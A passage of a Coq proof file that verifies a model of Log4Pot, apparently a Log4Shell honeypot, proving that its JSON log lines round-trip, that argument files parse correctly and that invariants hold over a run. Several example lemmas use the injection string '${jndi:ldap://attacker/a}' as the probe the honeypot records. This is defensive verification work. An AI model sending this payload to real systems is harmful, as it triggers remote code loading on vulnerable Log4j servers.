    destruct (in_range 194 223 b0) eqn:R2.
    { apply in_range_spec in R2.
      destruct r0 as [|b1 r1]; [discriminate H|].
      destruct (is_cont b1) eqn:C1; [|discriminate H].
      apply in_range_spec in C1.
      destruct (utf8_decode_from (2 + pos) r1) as [s'|] eqn:Hr;
        [|discriminate H].
      injection H as <-. simpl. rewrite scalar_below by lia.
      apply (IH r1 (2 + pos) s'); [simpl in Hlen; lia | exact Hr]. }
    destruct (in_range 224 239 b0) eqn:R3.
    { apply in_range_spec in R3.
      destruct r0 as [|b1 [|b2 r2]]; try discriminate H.
      destruct (in_range _ _ b1) eqn:C1; [|discriminate H].
      destruct (is_cont b2) eqn:C2; [|discriminate H].
      apply in_range_spec in C1, C2. cbn [andb] in H.
      destruct (utf8_decode_from (3 + pos) r2) as [s'|] eqn:Hr;
        [|discriminate H].
      injection H as <-. simpl.
      assert (Hs : scalar ((b0 - 224) * 4096 + (b1 - 128) * 64 + (b2 - 128)) = true).
      { destruct (N.eqb_spec b0 224), (N.eqb_spec b0 237);
          try (apply scalar_below; lia).
        destruct (N.le_gt_cases b0 236);
          [apply scalar_below | apply scalar_above]; lia. }
      rewrite Hs. apply (IH r2 (3 + pos) s'); [simpl in Hlen; lia | exact Hr]. }
    destruct (in_range 240 244 b0) eqn:R4; [|discriminate H].
    apply in_range_spec in R4.
    destruct r0 as [|b1 [|b2 [|b3 r3]]]; try discriminate H.
    destruct (in_range _ _ b1) eqn:C1; [|discriminate H].
    destruct (is_cont b2) eqn:C2; [|discriminate H].
    destruct (is_cont b3) eqn:C3; [|discriminate H].
    apply in_range_spec in C1, C2, C3. cbn [andb] in H.
    destruct (utf8_decode_from (4 + pos) r3) as [s'|] eqn:Hr;
      [|discriminate H].
    injection H as <-. simpl.
    assert (Hs : scalar ((b0 - 240) * 262144 + (b1 - 128) * 4096
                         + (b2 - 128) * 64 + (b3 - 128)) = true).
    { apply scalar_above.
      destruct (N.eqb_spec b0 240), (N.eqb_spec b0 244); lia. }
    rewrite Hs. apply (IH r3 (4 + pos) s'); [simpl in Hlen; lia | exact Hr].
Qed.

Lemma read_body_wf self content :
  read_body self = Ok (Some content) -> wf_ustr content = true.
Proof.
  unfold read_body.
  destruct (dict_mem _ _ _); [|discriminate].
  destruct (match msg_get _ _ with Some v => py_int v | None => _ end);
    [|discriminate].
  destruct (rfile_read _ _) as [bs|]; [|discriminate].
  destruct (utf8_decode bs) as [s|] eqn:Hd; [|discriminate].
  intros [= <-]. unfold utf8_decode in Hd.
  exact (utf8_decode_from_wf _ _ _ _ (le_n _) Hd).
Qed.

Lemma latin1_inj a b : latin1 a = latin1 b -> a = b.
Proof.
  unfold latin1. revert b.
  induction a as [|x a IH]; intros [|y b]; simpl; try discriminate; auto.
  intros [= Hxy Hab]. f_equal; [|now apply IH].
  rewrite <- (ascii_N_embedding x), <- (ascii_N_embedding y). now f_equal.
Qed.

Lemma NoDup_map_latin1 l : NoDup l -> NoDup (map latin1 l).
Proof.
  induction 1 as [|k l Hk _ IH]; simpl; constructor; [|exact IH].
  intros Hin. apply in_map_iff in Hin as (x & Hx & Hin).
  apply latin1_inj in Hx. now subst.
Qed.

Lemma unique_keys_of_NoDup l : NoDup l -> unique_keys l = true.
Proof.
  induction 1 as [|k l Hk _ IH]; [reflexivity|].
  simpl. rewrite IH, andb_true_r. apply negb_true_iff.
  destruct (existsb (ustr_eqb k) l) eqn:He; [|reflexivity].
  apply existsb_exists in He as (x & Hx & Hkx).
  destruct (ustr_eqb_spec k x); [subst; contradiction | discriminate].
Qed.

Lemma wf_json_of_headers (m : Message) :
  wf_json (json_of_headers (dict_of_message m)) = true.
Proof.
  unfold json_of_headers. rewrite wf_obj. apply andb_true_intro. split.
  - apply unique_keys_of_NoDup. rewrite map_map. cbn [fst].
    rewrite <- (map_map fst latin1).
    apply NoDup_map_latin1.
    rewrite dict_of_message_eq, map_map. cbn [fst]. rewrite map_id.
    apply first_occurrences_NoDup.
  - unfold wf_members. apply forallb_forall. intros kv Hin.
    apply in_map_iff in Hin as ([k v] & <- & _). cbn [fst snd].
    rewrite wf_latin1. destruct v; [apply wf_latin1 | reflexivity].
Qed.

(** Every record that the handler writes for a request reads back from its
    line, with its type and the correlation identifier. *)
Lemma handler_records_round_trip server self u clk body ds : forall t now d,
  read_body self = Ok body ->
  In d (capture_record server self u now body
        :: exploit_records self u clk t ds) ->
  loads (log_line d) = Some (JObj d) /\
  field d "correlation_id" = Some (JStr (latin1 (str_uuid u))).
Proof.
  intros t now d Hb [<-|Hin].
  - split; [|apply id_capture].
    apply loads_dumps, wf_log_record; [reflexivity|].
    unfold capture_kwargs, wf_members. rewrite forallb_app.
    cbn [forallb fst snd wf_json]. rewrite !wf_latin1, wf_json_of_headers.
    destruct body as [content|]; [|reflexivity].
    cbn [forallb fst snd wf_json]. now rewrite wf_latin1, (read_body_wf self).
  - revert t Hin. induction ds as [|x ds IH]; intros t Hin; [destruct Hin|].
    destruct Hin as [<-|Hin]; [|exact (IH (S t) Hin)].
    split; [|apply id_exploit].
    apply loads_dumps, wf_log_record; [reflexivity|].
    cbn [wf_members forallb fst snd wf_json]. now rewrite !wf_latin1.
Qed.

Section RoundTripProperties.
Context {Blob : Type} (append_block : Blob -> string -> outcome unit * Blob).

(** A call of [log] with well-formed values and no field named [type] or
  [timestamp]: the line it appends, ended by the only line feed in it,
  reads back as the object with the event type, the timestamp of the clock
  reading and every field that was passed; the positional [message] is
  not part of the record. *)
Lemma well_formed_call_round_trip logtype message kwargs (w : @World Blob) :
wf_ustr logtype = true ->
wf_members kwargs = true ->
unique_keys (map fst kwargs) = true ->
dict_get ustr_eqb kwargs (latin1 "type") = None ->
dict_get ustr_eqb kwargs (latin1 "timestamp") = None ->
valid_datetime (clock w (ticks w)) ->
let d := log_record logtype (clock w (ticks w)) kwargs in
round_trips append_block logtype message kwargs w /\
file_writes (trace (snd (log append_block logtype message kwargs w)))
= (file_writes (trace w) ++ [(dumps (JObj d) ++ newline)%string])%list /\
no_nl (dumps (JObj d)) = true /\
loads (dumps (JObj d) ++ newline) = Some (JObj d) /\
field d "timestamp" = Some (JStr (latin1 (isoformat (clock w (ticks w))))) /\
forall message', log append_block logtype message' kwargs w
                 = log append_block logtype message kwargs w.
Proof.
intros Hty Hkw Hu Htype Hts Hnow d.
assert (Hw : file_writes (trace (snd (log append_block logtype message kwargs w)))
             = (file_writes (trace w)
                ++ [(dumps (JObj d) ++ newline)%string])%list).
{ rewrite (log_trace append_block), file_writes_app. reflexivity. }
assert (Hl : loads (dumps (JObj d) ++ newline) = Some (JObj d))
  by (apply loads_dumps, wf_log_record; assumption).
assert (Hft : field d "type" = Some (JStr logtype)).
{ unfold field, d, log_record. now rewrite dict_get_update_none. }
assert (Hfs : field d "timestamp"
              = Some (JStr (latin1 (isoformat (clock w (ticks w)))))).
{ unfold field, d, log_record. now rewrite dict_get_update_none. }
split; [|split; [exact Hw|split; [apply no_nl_dumps|split; [exact Hl|
         split; [exact Hfs|intros message'; reflexivity]]]]].
exists (dumps (JObj d) ++ newline), d.
split; [exact Hw|]. split; [exact Hl|]. split; [exact Hft|]. split.
- exists (isoformat (clock w (ticks w))). split; [exact Hfs|].
  now apply isoformat_iso8601.
- intros k v Hk. unfold d, log_record. now apply dict_get_update_some.
Qed.

(** C9: every call of [log] that the program makes (the start, request,
  exploit, exception and end events, with the keyword fields that
  [log_start], [log_request], [log_request_body], [log_exploit],
  [log_exception] and [log_end] pass) appends one line, ended by the only
  line feed in it, and that line, parsed back, is an object that
  reproduces the event type, the timestamp of the clock reading in the
  format [YYYY-MM-DDTHH:MM:SS[.ffffff]], and every field that was passed,
  the correlation identifier among them when there is one. *)
Theorem log_line_round_trip logtype message kwargs (w : @World Blob) :
program_call logtype kwargs ->
valid_datetime (clock w (ticks w)) ->
let d := log_record logtype (clock w (ticks w)) kwargs in
round_trips append_block logtype message kwargs w /\
file_writes (trace (snd (log append_block logtype message kwargs w)))
= (file_writes (trace w) ++ [(dumps (JObj d) ++ newline)%string])%list /\
no_nl (dumps (JObj d)) = true /\
loads (dumps (JObj d) ++ newline) = Some (JObj d) /\
field d "timestamp" = Some (JStr (latin1 (isoformat (clock w (ticks w))))) /\
(forall uuid,
   dict_get ustr_eqb kwargs (latin1 "correlation_id")
   = Some (JStr (latin1 (str_uuid uuid))) ->
   field d "correlation_id" = Some (JStr (latin1 (str_uuid uuid)))).
Proof.
intros Hc Hnow d.
assert (H : wf_ustr logtype = true /\ wf_members kwargs = true /\
            unique_keys (map fst kwargs) = true /\
            dict_get ustr_eqb kwargs (latin1 "type") = None /\
            dict_get ustr_eqb kwargs (latin1 "timestamp") = None).
{ destruct Hc as [| |e|server self uuid body Hb|self uuid loc content i m Hs].
  - repeat split; reflexivity.
  - repeat split; reflexivity.
  - repeat split; try reflexivity.
    cbn [wf_members forallb fst snd wf_json]. now rewrite !wf_latin1.
  - split; [reflexivity|]. split; [|destruct body; repeat split; reflexivity].
    unfold capture_kwargs, wf_members. rewrite forallb_app.
    cbn [forallb fst snd wf_json]. rewrite !wf_latin1, wf_json_of_headers.
    destruct body as [content|]; [|reflexivity].
    cbn [forallb fst snd wf_json]. now rewrite wf_latin1, (read_body_wf self).
  - repeat split; try reflexivity.
    cbn [wf_members forallb fst snd wf_json]. now rewrite !wf_latin1. }
destruct H as (Hty & Hkw & Hu & Htype & Hts).
destruct (well_formed_call_round_trip logtype message kwargs w
            Hty Hkw Hu Htype Hts Hnow) as (Hr & Hw & Hn & Hl & Hf & _).
fold d in Hw, Hn, Hl, Hf.
split; [exact Hr|]. split; [exact Hw|]. split; [exact Hn|].
split; [exact Hl|]. split; [exact Hf|].
intros uuid Hk. unfold field, d, log_record.
now apply dict_get_update_some.
Qed.

End RoundTripProperties.

(** The exploit event of a probe, read back. *)
Lemma exploit_event_round_trip :
  (program_call (latin1 "exploit")
     [(latin1 "correlation_id", JStr (latin1 (str_uuid (uuid_of_random 0))));
      (latin1 "location", JStr (latin1 "header-X-Api-Version"));
      (latin1 "payload", JStr (latin1 "${jndi:ldap://attacker/a}"));
      (latin1 "client", JStr (latin1 "10.0.0.1"))] /\
   valid_datetime (clock (world0 None) (ticks (world0 None)))) /\
  round_trips remote_ok (latin1 "exploit") (latin1 "Exploit detected")
    [(latin1 "correlation_id", JStr (latin1 (str_uuid (uuid_of_random 0))));
     (latin1 "location", JStr (latin1 "header-X-Api-Version"));
     (latin1 "payload", JStr (latin1 "${jndi:ldap://attacker/a}"));
     (latin1 "client", JStr (latin1 "10.0.0.1"))]
    (world0 None).
Proof.
  assert (Hv : valid_datetime (clock (world0 None) (ticks (world0 None))))
    by (vm_compute; intuition discriminate).
  assert (Hc : program_call (latin1 "exploit")
     [(latin1 "correlation_id", JStr (latin1 (str_uuid (uuid_of_random 0))));
      (latin1 "location", JStr (latin1 "header-X-Api-Version"));
      (latin1 "payload", JStr (latin1 "${jndi:ldap://attacker/a}"));
      (latin1 "client", JStr (latin1 "10.0.0.1"))])
    by exact (call_exploit probe_in_header (uuid_of_random 0)
                "header-X-Api-Version" "${jndi:ldap://attacker/a}" 0
                "${jndi:ldap://attacker/a}" eq_refl).
  split; [split; [exact Hc | exact Hv]|].
  exact (proj1 (log_line_round_trip remote_ok (latin1 "exploit")
                  (latin1 "Exploit detected") _ (world0 None) Hc Hv)).
Defined.

(** ** Two runs, evaluated *)

(** The type of each line of a log, read back. *)
Lemma event_types_example :
  map (fun line => match loads line with
                   | Some (JObj d) => field d "type"
                   | _ => None
                   end)
      (file_writes (trace (snd (do remote_ok server0 probe_in_header
                                  (world0 None)))))
  = [Some (JStr (latin1 "request")); Some (JStr (latin1 "exploit"))].
Proof. vm_compute. reflexivity. Qed.

(** Scenario 1: a probe in the header [X-Api-Version] gives one capture
    event and one exploit event, located at that header. *)
Lemma header_probe_example :
  file_writes (trace (snd (do remote_ok server0 probe_in_header (world0 None))))
  = map log_line
      [capture_record server0 probe_in_header (uuid_of_random 0) noon None;
       exploit_record probe_in_header (uuid_of_random 0) noon
         ("header-X-Api-Version", "${jndi:ldap://attacker/a}")].
Proof. vm_compute. reflexivity. Qed.

(** Two listeners, all ports bound; the loop of the first one breaks after
    its request.  The log holds the start event, the events of the first
    listener and its exception event, the events of the second listener, and
    the end event. *)
Lemma broken_loop_example :
  fst (main remote_ok bind_ok loop_breaks_on_8080 [8080; 8081]%Z
         (Some "Apache/2.4.1") (world0 None)) = Ok tt
  /\ map (fun line => match loads line with
                      | Some (JObj d) => field d "type"
                      | _ => None
                      end)
         (file_writes (trace (snd (main remote_ok bind_ok loop_breaks_on_8080
                                     [8080; 8081]%Z (Some "Apache/2.4.1")
                                     (world0 None)))))
     = map (fun t => Some (JStr (latin1 t)))
         ["start"; "request"; "exploit"; "exception";
          "request"; "exploit"; "end"].
Proof. split; vm_compute; reflexivity. Qed.

(** * Further properties of the program *)

(** ** Argument files *)

Lemma split_from_app_blank g : forall cur s,
  blank g ->
  split_from cur (g ++ s)%list =
  match g, cur with
  | _ :: _, Some piece => piece :: split_from None s
  | _, _ => split_from cur s
  end.
Proof.
  induction g as [|c g IH]; intros cur s Hg.
  - now destruct cur.
  - unfold blank in Hg. cbn [forallb] in Hg.
    apply andb_true_iff in Hg as [Hc Hg].
    cbn [List.app split_from]. rewrite Hc.
    destruct cur as [piece|]; rewrite (IH None s Hg); now destruct g.
Qed.

Lemma split_from_app_word a : forall cur s,
  forallb (fun c => negb (is_whitespace c)) a = true ->
  split_from cur (a ++ s)%list =
  match a with
  | [] => split_from cur s
  | _ :: _ =>
      split_from (Some (match cur with
                        | Some piece => (piece ++ a)%list
                        | None => a
                        end)) s
  end.
Proof.
  induction a as [|c a IH]; intros cur s Ha; [reflexivity|].
  cbn [forallb] in Ha. apply andb_true_iff in Ha as [Hc Ha].
  apply negb_true_iff in Hc.
  cbn [List.app split_from]. rewrite Hc, (IH _ s Ha).
  destruct a as [|c' a]; [reflexivity|].
  destruct cur as [piece|]; [|reflexivity].
  now rewrite <- app_assoc.
Qed.

Lemma split_from_at_gap piece s :
  at_gap s -> split_from (Some piece) s = piece :: split_from None s.
Proof.
  destruct s as [|c s]; [reflexivity|]. cbn [at_gap split_from].
  now intros ->.
Qed.

Lemma split_from_words s : forall cur,
  match cur with Some piece => word piece | None => True end ->
  Forall word (split_from cur s) /\
  concat (split_from cur s) =
  (match cur with Some piece => piece | None => [] end
   ++ filter (fun c => negb (is_whitespace c)) s)%list /\
  (split_from cur s = [] <-> cur = None /\ blank s).
Proof.
  induction s as [|c s IH]; intros cur Hcur.
  - destruct cur as [piece|]; cbn [split_from concat filter].
    + rewrite !app_nil_r. repeat split; auto; try discriminate.
      now intros [? _].
    + repeat split; auto.
  - cbn [split_from filter]. unfold blank. cbn [forallb].
    destruct (is_whitespace c) eqn:Hc; cbn [negb andb].
    + destruct (IH None I) as (H1 & H2 & H3).
      destruct cur as [piece|].
      * cbn [concat]. rewrite H2. repeat split; auto; try discriminate.
        now intros [? _].
      * tauto.
    + match goal with |- context [split_from (Some ?p) s] =>
        assert (Hp : word p); [|destruct (IH (Some p) Hp) as (H1 & H2 & H3)]
      end.
      { destruct cur as [piece|].
        - destruct Hcur as [_ Hf]. split; [now destruct piece|].
          rewrite forallb_app, Hf. cbn [forallb]. now rewrite Hc.
        - split; [discriminate|]. cbn [forallb]. now rewrite Hc. }
      split; [exact H1|]. split.
      * rewrite H2. destruct cur; [now rewrite <- app_assoc | reflexivity].
      * split; [intros H; apply H3 in H as [H _]; discriminate|].
        intros [_ H]. discriminate.
Qed.

(** X1: every argument taken from a line of an argument file is non-empty
    and free of white space; the arguments, put together, are the line
    without its white space, so no character is lost, added or moved; and a
    line gives no argument exactly when it is blank. *)
Theorem arguments_are_words (arg_line : ustr) :
  Forall word (convert_arg_line_to_args arg_line) /\
  concat (convert_arg_line_to_args arg_line) =
  filter (fun c => negb (is_whitespace c)) arg_line /\
  (convert_arg_line_to_args arg_line = [] <-> blank arg_line).
Proof.
  destruct (split_from_words arg_line None I) as (H1 & H2 & H3).
  split; [exact H1|]. split; [exact H2|].
  unfold convert_arg_line_to_args, split. rewrite H3. tauto.
Qed.

(** X2: white space at the start of a line is skipped, and a word that is
    followed by white space or by the end of the line is the next argument:
    the two equations fix the arguments of every line. *)
Theorem arguments_cut_at_white_space :
  (forall g s, blank g ->
     convert_arg_line_to_args (g ++ s)%list = convert_arg_line_to_args s) /\
  (forall a s, word a -> at_gap s ->
     convert_arg_line_to_args (a ++ s)%list = a :: convert_arg_line_to_args s).
Proof.
  unfold convert_arg_line_to_args, split. split.
  - intros g s Hg. rewrite (split_from_app_blank g None s Hg). now destruct g.
  - intros a s [Hne Ha] Hs. rewrite (split_from_app_word a None s Ha).
    destruct a as [|c a]; [contradiction|]. now apply split_from_at_gap.
Qed.
(** ** The length header *)

Lemma first_occurrences_In x l : In x (first_occurrences l) <-> In x l.
Proof.
  induction l as [|y l IH]; [reflexivity|]. cbn [first_occurrences In].
  rewrite filter_In, IH, negb_true_iff.
  destruct (String.eqb_spec x y) as [->|Hne]; [tauto|].
  split; [tauto|]. intros [->|H]; [contradiction | auto].
Qed.

Lemma dict_get_map {V} (g : string -> V) k l :
  dict_get String.eqb (map (fun x => (x, g x)) l) k =
  if existsb (fun x => String.eqb x k) l then Some (g k) else None.
Proof.
  induction l as [|y l IH]; [reflexivity|]. cbn [map dict_get existsb].
  destruct (String.eqb_spec y k) as [->|Hne]; [reflexivity | exact IH].
Qed.

(** [name in dict(m)] holds when a header line spells its name exactly that
    way. *)
Lemma dict_mem_of_message (m : Message) k :
  dict_mem String.eqb (dict_of_message m) k = true <-> In k (msg_keys m).
Proof.
  unfold dict_mem. rewrite dict_of_message_eq, dict_get_map.
  rewrite <- (first_occurrences_In k (msg_keys m)).
  destruct (existsb _ _) eqn:He.
  - apply existsb_exists in He as (x & Hin & Hx).
    apply String.eqb_eq in Hx as ->. tauto.
  - split; [discriminate|]. intros Hin. exfalso.
    assert (Ht : existsb (fun x => String.eqb x k)
                   (first_occurrences (msg_keys m)) = true).
    { apply existsb_exists. exists k. split; [exact Hin | apply String.eqb_refl]. }
    congruence.
Qed.

Lemma utf8_decode_from_raises n : forall bs pos e,
  List.length bs <= n -> utf8_decode_from pos bs = Raise e ->
  exists msg, e = UnicodeDecodeError msg.
Proof.
  induction n as [|n IH]; intros bs pos e Hlen H.
  - destruct bs; [discriminate H | simpl in Hlen; lia].
  - destruct bs as [|b0 r0]; [discriminate H|].
    simpl in Hlen. cbn [utf8_decode_from] in H.
    repeat match type of H with
    | Raise _ = Raise _ => injection H as <-; eexists; reflexivity
    | Ok _ = Raise _ => discriminate H
    | match utf8_decode_from ?p ?r with _ => _ end = _ =>
        let Hr := fresh "Hr" in
        destruct (utf8_decode_from p r) eqn:Hr;
        [discriminate H
        | injection H as <-; apply (IH r p); [simpl in Hlen; lia | exact Hr]]
    | (if ?c then _ else _) = _ => destruct c
    | match ?l with [] => _ | _ :: _ => _ end = _ =>
        destruct l; simpl in Hlen
    end.
Qed.

Lemma py_int_raises v e : py_int v = Raise e -> exists msg, e = ValueError msg.
Proof.
  unfold py_int. cbv zeta.
  destruct (digit_run _) as [k|]; [|intros [= <-]; eexists; reflexivity].
  destruct (max_str_digits <? k)%nat; [intros [= <-]; eexists; reflexivity|].
  destruct (match lstrip v with EmptyString => _ | String _ _ => _ end);
    [discriminate|]. intros [= <-]. eexists; reflexivity.
Qed.

Lemma rfile_read_raises rest n e :
  rfile_read rest n = Raise e ->
  exists msg, e = ValueError msg \/ e = OverflowError msg.
Proof.
  unfold rfile_read.
  destruct (n <? -1)%Z; [intros [= <-]; eexists; left; reflexivity|].
  destruct (n =? -1)%Z; [discriminate|].
  destruct (_ <? n)%Z; [intros [= <-]; eexists; right; reflexivity|].
  destruct (_ <? n)%Z; [intros [= <-]; eexists; right; reflexivity|].
  discriminate.
Qed.

(** When the name is there, the value is found: the conversion to a number
    never meets a missing value. *)
Lemma read_body_no_type_error self msg :
  read_body self <> Raise (TypeError msg).
Proof.
  unfold read_body. intros H.
  destruct (dict_mem _ _ _) eqn:Hm; [|discriminate H].
  apply dict_mem_of_message in Hm.
  destruct (msg_get_found _ _ Hm) as (k' & v & _ & _ & Hg).
  rewrite Hg in H.
  destruct (py_int v) as [n|e1] eqn:Hi.
  - destruct (rfile_read _ n) as [bs|e2] eqn:Hr.
    + destruct (utf8_decode bs) as [s|e3] eqn:Hd; [discriminate H|].
      injection H as ->. unfold utf8_decode in Hd.
      destruct (utf8_decode_from_raises _ _ _ _ (le_n _) Hd) as (m & Hm').
      discriminate Hm'.
    + injection H as ->. apply rfile_read_raises in Hr as (m & [Hr|Hr]);
        discriminate Hr.
  - injection H as ->. apply py_int_raises in Hi as (m & Hi). discriminate Hi.
Qed.
(** ** Invariants of the running program

    A relation between the world before and the world after that is
    reflexive and transitive, and that holds across a random draw, across an
    effect on the connection and across each call of [log] that the program
    makes, holds across the handling of a request, across the serving loop
    of a listener and across its thread.  When it also holds across a line
    on standard output and across closing the log file, it holds across the
    whole run. *)

Section Invariant.
Context {Blob : Type} (append_block : Blob -> string -> outcome unit * Blob).
Context (server_bind : Z -> outcome unit)
        (traffic : Z -> list Request * option exn).

Implicit Types w : @World Blob.

Variable R : @World Blob -> @World Blob -> Prop.
Hypothesis R_refl : forall w, R w w.
Hypothesis R_trans : forall w1 w2 w3, R w1 w2 -> R w2 w3 -> R w1 w3.
Hypothesis R_uuid4 : forall w, R w (snd (uuid4 w)).
Hypothesis R_emit :
  forall e w, is_response_effect e = true -> R w (snd (emit e w)).
Hypothesis R_log :
  forall ty msg kw w,
    program_call ty kw -> R w (snd (log append_block ty msg kw w)).

Lemma inv_for_each {A} (body : A -> M unit) (l : list A) :
  (forall x w, In x l -> R w (snd (body x w))) ->
  forall w, R w (snd (for_each l body w)).
Proof.
  induction l as [|x l IH]; intros Hb w; [apply R_refl|].
  cbn [for_each]. unfold bind.
  pose proof (Hb x w (or_introl eq_refl)) as Hx.
  destruct (body x w) as [[[]|e] w1]; [|exact Hx].
  apply (R_trans _ _ _ Hx). apply IH. intros y w' Hy. apply Hb. now right.
Qed.

Lemma inv_find_exploit self u loc content w :
  R w (snd (find_exploit append_block self u loc content w)).
Proof.
  unfold find_exploit.
  destruct (search re_exploit content) as [[i m]|] eqn:Hs; [|apply R_refl].
  apply R_log. exact (call_exploit self u loc content i m Hs).
Qed.

Lemma inv_do server self w : R w (snd (do append_block server self w)).
Proof.
  rewrite do_run. cbv zeta.
  set (u := uuid_of_random (urandom w (draws w))).
  set (w0 := mkWorld _ _ _ _ _ _).
  assert (H0 : R w w0).
  { pose proof (R_uuid4 w) as H. cbn [uuid4 snd] in H.
    apply (R_trans _ _ _ H).
    pose (w1 := snd (uuid4 w)). 
    pose (v := match server_header server with
               | Some h => if String.eqb h EmptyString then None else Some h
               | None => None
               end).
    pose (w2 := snd (emit (SendResponse v 200) w1)).
    pose (w3 := snd (emit (SendHeader "Content-Type" "text/json") w2)).
    pose (w4 := snd (emit EndHeaders w3)).
    assert (E : w0 = snd (emit (WfileWrite (response_body u)) w4)).
    { subst w0 w4 w3 w2 w1. unfold fixed_response, emit, uuid4.
      cbn [snd trace blob clock ticks urandom draws].
      rewrite <- !app_assoc. reflexivity. }
    rewrite E.
    apply (R_trans _ w2); [apply (R_emit _ w1); reflexivity|].
    apply (R_trans _ w3); [apply (R_emit _ w2); reflexivity|].
    apply (R_trans _ w4); [apply (R_emit _ w3); reflexivity|].
    apply (R_emit _ w4); reflexivity. }
  destruct (read_body self) as [body|e] eqn:Hb; [|exact H0].
  pose proof (R_log (latin1 "request") (latin1 "A request was received")
                _ w0 (call_request server self u body Hb)) as H1.
  destruct (log _ _ _ _ w0) as [[[]|e] w1]; cbn [snd] in H1;
    [|exact (R_trans _ _ _ H0 H1)].
  apply (R_trans _ _ _ H0), (R_trans _ _ _ H1).
  apply inv_for_each. intros lc w' _. apply inv_find_exploit.
Qed.

Lemma inv_process_request server self w :
  R w (snd (process_request append_block server self w)).
Proof.
  unfold process_request, handle_one_request, getattribute. cbn [snd].
  destruct (startswith _ _).
  - apply inv_do.
  - apply (R_emit (SendResponse None 501) w). reflexivity.
Qed.

Lemma inv_serve_forever t w :
  R w (snd (serve_forever append_block traffic t w)).
Proof.
  unfold serve_forever, bind.
  pose proof (inv_for_each (process_request append_block (server t))
                (fst (traffic (port t)))
                (fun x w' _ => inv_process_request (server t) x w') w) as H.
  destruct (for_each _ _ w) as [[[]|e] w1]; [|exact H].
  now destruct (snd (traffic (port t))).
Qed.

Lemma inv_run t w : R w (snd (run append_block traffic t w)).
Proof.
  unfold run. pose proof (inv_serve_forever t w) as H.
  destruct (serve_forever append_block traffic t w) as [[[]|e] w1];
    [exact H|].
  assert (Hl : R w (snd (log_exception append_block e w1))).
  { apply (R_trans _ _ _ H). apply R_log. constructor. }
  now destruct e.
Qed.

Lemma inv_threads ts w :
  R w (snd (for_each ts (start_join append_block traffic) w)).
Proof.
  apply inv_for_each. intros t w' _. apply inv_run.
Qed.

(** The construction of the listeners leaves the world as it is. *)
Lemma comprehension_world header ports : forall w,
  snd (comprehension (fun p => ServerThread_init server_bind p header) ports w)
  = w.
Proof.
  induction ports as [|p ports IH]; intros w; [reflexivity|].
  cbn [comprehension]. unfold bind at 1. rewrite ServerThread_init_run.
  destruct (server_bind p) as [[]|e]; [|reflexivity].
  unfold bind. specialize (IH w).
  now destruct (comprehension _ ports w) as [[ts|e] w1].
Qed.

Hypothesis R_out :
  forall e w,
    match e with Stdout _ | FileClose => True | _ => False end ->
    R w (snd (emit e w)).

Lemma inv_main ports header w :
  R w (snd (main append_block server_bind traffic ports header w)).
Proof.
  unfold main. unfold bind at 1.
  pose proof (comprehension_world header ports w) as Hc.
  destruct (comprehension _ ports w) as [[ts|e] w0]; cbn [snd] in Hc;
    subst w0; [|apply R_refl].
  assert (Hs : forall (f : ServerThread -> string) w',
             R w' (snd (for_each ts (fun t => emit (Stdout (f t))) w'))).
  { intros f w'. apply inv_for_each. intros t w'' _. now apply R_out. }
  unfold bind.
  pose proof (R_log (latin1 "start") (latin1 "Log4Pot started") [] w
                call_start) as H1.
  fold (log_start append_block) in H1.
  destruct (log_start append_block w) as [[[]|e] w1]; [|exact H1].
  apply (R_trans _ _ _ H1).
  match goal with |- context [for_each ts (fun t => emit (Stdout (@?g t)))] =>
    pose proof (Hs g w1) as H2; destruct (for_each ts _ w1) as [[[]|e] w2]
  end; [|exact H2].
  apply (R_trans _ _ _ H2).
  pose proof (inv_threads ts w2) as H3.
  destruct (for_each ts _ w2) as [[[]|e] w3]; [|exact H3].
  apply (R_trans _ _ _ H3).
  match goal with |- context [for_each ts (fun t => emit (Stdout (@?g t)))] =>
    pose proof (Hs g w3) as H4; destruct (for_each ts _ w3) as [[[]|e] w4]
  end; [|exact H4].
  apply (R_trans _ _ _ H4).
  unfold close, bind.
  pose proof (R_log (latin1 "end") (latin1 "Log4Pot stopped") [] w4
                call_end) as H5.
  fold (log_end append_block) in H5.
  destruct (log_end append_block w4) as [[[]|e] w5]; [|exact H5].
  apply (R_trans _ _ _ H5). now apply R_out.
Qed.

End Invariant.
(** ** The characters of a log line *)

Lemma all_printable_app a b :
  all_printable (a ++ b) = (all_printable a && all_printable b)%bool.
Proof.
  induction a as [|c a IH]; [reflexivity|]. simpl. now rewrite IH, andb_assoc.
Qed.

Lemma printable_ascii_of_N n :
  (32 <= n <= 126)%N -> printable (ascii_of_N n) = true.
Proof.
  intros H. unfold printable, in_range. rewrite N_ascii_roundtrip by lia.
  apply andb_true_intro. split; apply N.leb_le; lia.
Qed.

Lemma printable_hex_digit n : (n < 16)%N -> printable (hex_digit n) = true.
Proof.
  intros H. unfold hex_digit.
  destruct (N.ltb_spec n 10); apply printable_ascii_of_N; lia.
Qed.

Lemma all_printable_u_escape v : all_printable (u_escape v) = true.
Proof.
  unfold u_escape, hex4. cbn [all_printable].
  rewrite !printable_hex_digit by apply nibble_lt.
  replace (N.land v 15) with (N.land (N.shiftr v 0) 15) by now rewrite N.shiftr_0_r.
  rewrite printable_hex_digit by apply nibble_lt. reflexivity.
Qed.

Lemma all_printable_escape_cp c : all_printable (escape_cp c) = true.
Proof.
  unfold escape_cp.
  destruct (c =? 34)%N; [reflexivity|].
  destruct (c =? 92)%N; [reflexivity|].
  destruct (andb _ _) eqn:Hr.
  { apply andb_true_iff in Hr as [H1 H2].
    apply N.leb_le in H1, H2. cbn [all_printable].
    rewrite printable_ascii_of_N by lia. reflexivity. }
  destruct (c =? 10)%N; [reflexivity|].
  destruct (c =? 13)%N; [reflexivity|].
  destruct (c =? 9)%N; [reflexivity|].
  destruct (c =? 12)%N; [reflexivity|].
  destruct (c =? 8)%N; [reflexivity|].
  destruct (c <? 65536)%N; [apply all_printable_u_escape|].
  cbv zeta. now rewrite all_printable_app, !all_printable_u_escape.
Qed.

Lemma all_printable_encode_str s : all_printable (encode_str s) = true.
Proof.
  unfold encode_str. cbn [all_printable].
  rewrite all_printable_app. cbn [all_printable andb].
  replace (printable dquote) with true by reflexivity.
  rewrite andb_true_r. cbn [andb].
  induction s as [|c s IH]; [reflexivity|].
  cbn [escape_body]. now rewrite all_printable_app, all_printable_escape_cp.
Qed.

Lemma all_printable_str_int z : all_printable (str_int z) = true.
Proof.
  assert (H : forall d, all_printable (NilEmpty.string_of_uint d) = true)
    by (induction d; simpl; auto).
  assert (H' : forall d, all_printable (NilZero.string_of_uint d) = true)
    by (intros d; destruct d; try reflexivity; apply H).
  unfold str_int. destruct z; simpl; auto.
Qed.

Lemma all_printable_dumps : forall v, all_printable (dumps v) = true.
Proof.
  fix IH 1. intros [|s|z|kvs].
  - reflexivity.
